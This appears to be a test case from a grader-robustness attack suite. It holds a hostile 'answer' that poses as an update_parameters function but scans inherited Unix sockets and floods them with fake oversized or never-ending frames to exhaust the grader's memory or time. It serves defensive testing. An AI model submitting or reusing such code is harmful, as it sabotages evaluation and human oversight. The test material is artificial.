"""Sends frames that claim gigabytes, or arrays that never come, or come byte by byte."""

from tests.attacks.suite import Attack

ATTACK = Attack(
    harm="a grader that runs out of memory or time",
    answer="""
import json
import os
import socket
import time


def claims(layers):
    text = f"|u1 {2**25}\\n{json.dumps(['returned', 4, float('nan')])}".encode()
    if layers == 1:
        # All that is allowed, drop by drop.
        yield (2**24).to_bytes(4, "big")
        while True:
            time.sleep(0.05)
            yield b"{"
    elif layers == 3:
        yield len(text).to_bytes(4, "big") + text
        yield bytes(2**20)
        while True:
            time.sleep(0.05)
            yield b"0"
    else:
        yield (2**32 - 1).to_bytes(4, "big") + bytes(2**20)


def update_parameters(params, grads, learning_rate):
    for handle in range(3, 256):
        try:
            one = socket.socket(fileno=os.dup(handle))
        except OSError:
            continue
        if one.family == socket.AF_UNIX:
            end = time.monotonic() + 20
            for part in claims(len(params) // 2):
                one.sendall(part)
                if time.monotonic() > end:
                    break
    raise NotImplementedError
""",
    status="timeout",
    other_ends=("crashed",),
    limits=("call_seconds",),
)
